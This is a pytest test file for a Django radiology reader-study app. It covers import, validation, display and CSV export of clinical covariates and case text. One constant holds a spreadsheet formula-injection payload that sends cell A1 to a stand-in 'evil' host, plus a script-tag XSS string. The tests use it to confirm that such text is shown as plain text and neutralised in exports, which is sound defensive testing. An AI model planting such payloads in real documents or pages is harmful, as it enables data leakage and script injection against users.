"""Clinical covariates and case text in the manifest: typed by the registry, every bad cell a row error naming the
file, row, column and what was expected, all or nothing; stored on the case; in the export with the data
dictionary; shown to readers only where the study says so, as text."""

import csv
import io
import zipfile

import pytest
from django.test import Client

from readerstudy.core.errors import InvalidInput
from readerstudy.core.models import AuditEvent
from readerstudy.reading import actions as reading_actions
from readerstudy.reading.actions import launch_study
from readerstudy.reading.models import ReadingSession, SessionItem
from readerstudy.results import dictionary
from readerstudy.results.table import reads_table
from readerstudy.results.tasks import export_bytes
from readerstudy.studies import actions, covariates
from readerstudy.studies.covariates import BY_NAME, CASE_TEXT_MAX, case_text_problem, display_rows
from readerstudy.studies.models import Case
from tests.factories import balanced_rows, make_user, write_manifest

HOSTILE_TEXT = '=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>\r\nSecond line'


# --- the registry (pure) ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "text", "value"),
    [
        ("age", "61", 61),
        ("age", "0", 0),
        ("age", "120", 120),
        ("age", "", None),
        ("sex", "F", "F"),
        ("sex", "U", "U"),
        ("cea_ng_ml", "4.75", 4.75),
        ("cea_ng_ml", "0", 0.0),
        ("cea_ng_ml", "100000", 100_000.0),
        ("prior_colorectal_cancer", "yes", True),
        ("prior_colorectal_cancer", "NO", False),
        ("prior_colorectal_cancer", "1", True),
        ("prior_colorectal_cancer", "0", False),
    ],
)
def test_good_cells_parse_to_typed_values(name, text, value):
    parsed, problem = BY_NAME[name].parse(text)
    assert problem is None and parsed == value and type(parsed) is type(value)


@pytest.mark.parametrize(
    ("name", "text", "reason"),
    [
        ("age", "121", "121 is outside 0 to 120; expected a whole number from 0 to 120 years"),
        ("age", "-1", "-1 is outside 0 to 120"),
        ("age", "61.5", "'61.5' is not a whole number; expected a whole number from 0 to 120 years"),
        ("age", "=1+1", "'=1+1' is not a whole number"),
        ("age", "1" * 65, "is longer than 64 characters"),
        ("sex", "f", "'f' is not one of F, M, O, U; expected one of F (female), M (male), O (other), U (unknown)"),
        ("sex", "female", "'female' is not one of F, M, O, U"),
        ("cea_ng_ml", "nan", "'nan' is not a plain decimal number; expected a decimal number from 0 to 100000 ng/mL"),
        ("cea_ng_ml", "inf", "'inf' is not a plain decimal number"),
        ("cea_ng_ml", "1e999", "'1e999' is not a plain decimal number"),
        ("cea_ng_ml", "1_0", "'1_0' is not a plain decimal number"),
        ("cea_ng_ml", "-0.5", "-0.5 is outside 0 to 100000"),
        ("cea_ng_ml", "100000.5", "100000.5 is outside 0 to 100000"),
        ("prior_colorectal_cancer", "maybe", "'maybe' is not yes or no; expected yes or no (also 1 or 0)"),
    ],
)
def test_bad_cells_say_what_was_expected(name, text, reason):
    value, problem = BY_NAME[name].parse(text)
    assert value is None and reason in problem


def test_case_text_is_bounded_and_plain():
    assert case_text_problem("Line one\nline\ttwo, <b>not html</b>") is None
    assert case_text_problem("x" * CASE_TEXT_MAX) is None
    assert f"{CASE_TEXT_MAX + 1} characters; expected plain text of at most {CASE_TEXT_MAX}" in case_text_problem(
        "x" * (CASE_TEXT_MAX + 1)
    )
    assert "control character U+0000" in case_text_problem("a\x00b")
    assert "control character U+202E" in case_text_problem("a\u202eb")  # right-to-left override
    assert covariates.clean_case_text("  a\r\nb\rc  ") == "a\nb\nc"


def test_display_rows_follow_the_registry_and_skip_unknown_keys():
    rows = display_rows({"sex": "F", "age": 61, "cea_ng_ml": 4.5, "prior_colorectal_cancer": False, "gone": 1})
    assert [(r["label"], r["value"]) for r in rows] == [
        ("Age", "61 years"),
        ("Sex", "female"),
        ("CEA", "4.5 ng/mL"),
        ("Prior colorectal cancer", "no"),
    ]


# --- the import --------------------------------------------------------------------------------------------------


@pytest.fixture
def admin(db):
    return make_user("admin", superuser=True)


@pytest.fixture
def study(admin):
    return actions.create_study(admin, "Clinical study", seed=1)


def clinical_rows(n_patients=2, lesions=2):
    rows = balanced_rows(n_patients, lesions)
    for k, row in enumerate(rows):
        patient = int(row["patient_id"][1:])
        row.update(age=str(50 + patient), sex="F" if patient % 2 else "M", cea_ng_ml=f"{2.5 * patient}")
        row.update(prior_colorectal_cancer="yes" if patient == 1 else "no", case_text=f"Case {k}: follow-up CT")
    return rows


@pytest.mark.django_db
def test_covariates_are_stored_typed_on_the_case(tmp_path, admin, study):
    rows = clinical_rows()
    rows[0]["case_text"] = "  First line\r\nsecond line  "
    rows[1].update(age="", cea_ng_ml="", case_text="")  # not recorded for this lesion
    actions.import_cases(admin, study, write_manifest(tmp_path, rows))
    first = Case.objects.get(case_id=rows[0]["case_id"])
    assert first.clinical == {"age": 51, "sex": "F", "cea_ng_ml": 2.5, "prior_colorectal_cancer": True}
    assert first.case_text == "First line\nsecond line"
    second = Case.objects.get(case_id=rows[1]["case_id"])
    assert second.clinical == {"sex": "F", "prior_colorectal_cancer": True} and second.case_text == ""
    assert Case.objects.get(case_id=rows[2]["case_id"]).clinical["age"] == 52
    assert AuditEvent.objects.get(verb="import_cases").after["cases_with_clinical"] == 4


@pytest.mark.django_db
def test_a_manifest_without_clinical_columns_stores_none(tmp_path, admin, study):
    actions.import_cases(admin, study, write_manifest(tmp_path, balanced_rows(2, 1)))
    cases = list(Case.objects.all())
    assert len(cases) == 2 and all(c.clinical == {} and c.case_text == "" for c in cases)


@pytest.mark.django_db
def test_every_bad_clinical_cell_is_a_row_error_and_nothing_is_written(tmp_path, admin, study):
    rows = clinical_rows(3, 2)
    rows[0]["age"] = "130"
    rows[1]["age"] = "52"  # P001 again: no disagreement with row 2, whose refused 130 is no value to compare
    rows[2]["sex"] = "female"
    rows[3]["cea_ng_ml"] = "=A1*2"
    rows[4]["prior_colorectal_cancer"] = "perhaps"
    rows[5]["case_text"] = "y" * (CASE_TEXT_MAX + 1)
    path = write_manifest(tmp_path, rows, name="cases.csv")
    with pytest.raises(InvalidInput) as caught:
        actions.import_cases(admin, study, path)
    details = caught.value.details
    expected = [
        "cases.csv row 2 column age: 130 is outside 0 to 120; expected a whole number from 0 to 120 years",
        "cases.csv row 4 column sex: 'female' is not one of F, M, O, U; expected one of F (female)",
        "cases.csv row 5 column cea_ng_ml: '=A1*2' is not a plain decimal number; expected a decimal number",
        "cases.csv row 6 column prior_colorectal_cancer: 'perhaps' is not yes or no",
        f"cases.csv row 7 column case_text: {CASE_TEXT_MAX + 1} characters; expected plain text of at most",
    ]
    for start in expected:
        assert sum(d.startswith(start) for d in details) == 1, (start, details)
    assert len(details) == len(expected), details
    assert Case.objects.count() == 0 and not AuditEvent.objects.filter(verb="import_cases").exists()


@pytest.mark.django_db
def test_patient_level_covariates_must_agree_across_the_patients_lesions(tmp_path, admin, study):
    rows = clinical_rows(2, 2)
    rows[1]["age"] = "52"  # P001 was 51 on row 2
    rows[3]["sex"] = ""  # an empty cell is "not recorded", no disagreement
    with pytest.raises(InvalidInput) as caught:
        actions.import_cases(admin, study, write_manifest(tmp_path, rows))
    assert caught.value.details == [
        "manifest.csv row 3 column age: '52' differs from '51 years' on row 2 for the same patient 'P001'; "
        "expected one value per patient"
    ]


# --- the study switch ----------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_show_clinical_is_off_by_default_checked_and_audited(admin, study):
    assert study.show_clinical is False
    with pytest.raises(InvalidInput, match="show_clinical 'yes': expected true or false"):
        actions.update_study(admin, study, show_clinical="yes")
    actions.update_study(admin, study, show_clinical=True)
    study.refresh_from_db()
    assert study.show_clinical is True
    event = AuditEvent.objects.filter(verb="update_study").latest("seq")
    assert (event.before["show_clinical"], event.after["show_clinical"]) == (False, True)


# --- readers and exports -------------------------------------------------------------------------------------------


def launched(tmp_path, admin, *, show: bool):
    study = actions.create_study(admin, f"Clinical {show}", seed=7, show_clinical=show)
    actions.add_modality(admin, study, "unaided", "Unaided", shows_dl=False)
    actions.add_modality(admin, study, "aided", "Aided", shows_dl=True)
    actions.add_member(admin, study, make_user("reader1"), "reader")
    rows = clinical_rows(2, 2)
    for row in rows:
        row["case_text"] = HOSTILE_TEXT
    rows[1]["sex"] = rows[1]["age"] = ""  # recorded on the other lesion only: this one lists what it has
    actions.import_cases(admin, study, write_manifest(tmp_path, rows))
    launch_study(admin, study, accept_missing_predictions=True)
    return study


def first_items(study):
    """The reader's first item through the API."""
    client = Client()
    client.force_login(make_user("reader1"))
    session = ReadingSession.objects.get(study=study, reader__username="reader1", index=1)
    client.get("/reading/")
    token = client.cookies["csrftoken"].value
    assert client.post(f"/api/sessions/{session.pk}/start/", HTTP_X_CSRFTOKEN=token).status_code == 200
    response = client.get(f"/api/sessions/{session.pk}/next/")
    assert response.status_code == 200
    return client, response


@pytest.mark.django_db
def test_readers_see_clinical_information_only_where_the_study_shows_it(tmp_path, admin):
    hidden = launched(tmp_path / "a", admin, show=False)
    _, response = first_items(hidden)
    assert "clinical" not in response.json() and "HYPERLINK" not in response.content.decode()

    shown = launched(tmp_path / "b", admin, show=True)
    _, response = first_items(shown)
    item = response.json()
    case = ReadingSession.objects.get(study=shown, index=1).items.order_by("position").first().case
    assert item["clinical"]["covariates"] == display_rows(case.clinical)
    assert item["clinical"]["text"] == HOSTILE_TEXT.replace("\r\n", "\n")  # as text: the page sets textContent
    assert "truth" not in item["clinical"] and "crlm" not in str(item["clinical"]).lower()


@pytest.mark.django_db
def test_the_reads_export_carries_the_covariates_as_typed_neutralised_columns(tmp_path, admin):
    study = launched(tmp_path, admin, show=False)
    reader = make_user("reader1")
    session = ReadingSession.objects.get(study=study, reader=reader, index=1)
    reading_actions.start_session(reader, session)
    for n, item in enumerate(SessionItem.objects.filter(session=session).order_by("position")):
        reading_actions.submit_read(reader, item, rating=40 + n, idempotency_key=f"k{n}", active_seconds=3.0)
    table = reads_table(study)
    assert list(table.columns[-5:]) == ["age", "sex", "cea_ng_ml", "prior_colorectal_cancer", "case_text"]
    by_case = table.set_index("case")
    assert by_case.loc["P001-L1", "age"] == 51 and by_case.loc["P001-L1", "prior_colorectal_cancer"] == 1
    assert by_case.loc["P002-L1", "prior_colorectal_cancer"] == 0 and by_case.loc["P002-L2", "cea_ng_ml"] == 5.0
    _, content = export_bytes("csv", study.name, table)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        rows = list(csv.DictReader(io.StringIO(z.read("reads.csv").decode())))
        documented = {r["column"] for r in csv.DictReader(io.StringIO(z.read("data_dictionary.csv").decode()))}
    by_id = {r["case"]: r for r in rows}
    assert by_id["P001-L1"]["age"] == "51" and by_id["P001-L2"]["age"] == ""  # empty: not recorded
    assert by_id["P001-L1"]["sex"] == "F" and by_id["P001-L1"]["cea_ng_ml"] == "2.5"
    assert by_id["P001-L1"]["prior_colorectal_cancer"] == "1"
    assert by_id["P001-L1"]["case_text"] == "'" + HOSTILE_TEXT.replace("\r\n", "\n")  # no formula
    assert set(covariates.COLUMNS) <= documented and set(dictionary.COLUMNS) == set(table.columns)
